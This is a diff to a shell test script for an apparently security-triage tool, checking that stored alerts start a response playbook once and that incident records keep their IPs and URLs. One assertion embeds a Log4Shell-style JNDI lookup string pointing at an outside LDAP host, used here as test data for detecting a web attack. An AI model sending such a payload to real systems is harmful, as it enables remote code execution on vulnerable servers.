@@ -156,9 +156,24 @@ grep -q 'playbooks:' "$tmp/n.err" && fail "--no-playbooks started playbooks"
 [ "$(nruns)" = 0 ] || fail "--no-playbooks: runs"
 k triage --alerts "$tmp/alerts.jsonl" >/dev/null 2>&1 || fail "triage after --no-playbooks"
 [ "$(nruns)" = 0 ] || fail "an updated incident started a playbook"
-# the store's alerts (koban triage without --alerts) reach the same function:
-# nothing is stored here, so nothing starts
-k triage >/dev/null 2>&1 || fail "triage of the store"
+
+# ---- the store's alerts (scan --store, then triage without --alerts) --------
+D=d5
+k scan --store -q --no-correlation "$inc" >/dev/null 2>"$tmp/s5.err" || fail "scan --store: $(cat "$tmp/s5.err")"
+k triage >/dev/null 2>"$tmp/t5.err" || fail "triage of the store: $(cat "$tmp/t5.err")"
+grep -q '^triage: playbooks: 1 started, 0 could not start, 0 already had a run' "$tmp/t5.err" ||
+    fail "store triage: $(cat "$tmp/t5.err")"
+k triage >/dev/null 2>"$tmp/t6.err" || fail "triage of the store, again"
+grep -q 'playbooks:' "$tmp/t6.err" && fail "store triage again started playbooks"
+[ "$(q "select playbook || ' ' || status from resp_runs")" = "targeted-attack waiting" ] ||
+    fail "store triage runs: $(q 'select playbook, status from resp_runs')"
+# the web attack's incident carries its URLs and addresses from the stored events
+q "select detail from incidents where entity = 'destination:10.1.0.80'" | python3 -c '
+import json, sys
+d = json.loads(sys.stdin.read())
+assert d["source_ips"] == ["192.0.2.200"] and d["destination_ips"] == ["10.1.0.80"], d
+assert "http://www.example.com/?q=${jndi:ldap://192.0.2.200:1389/a}" in d["urls"], d["urls"]
+' || fail "observables from the store"
 
 # ---- a bound playbook that does not exist ------------------------------------
 cat >"$tmp/missing.yaml" <<EOF
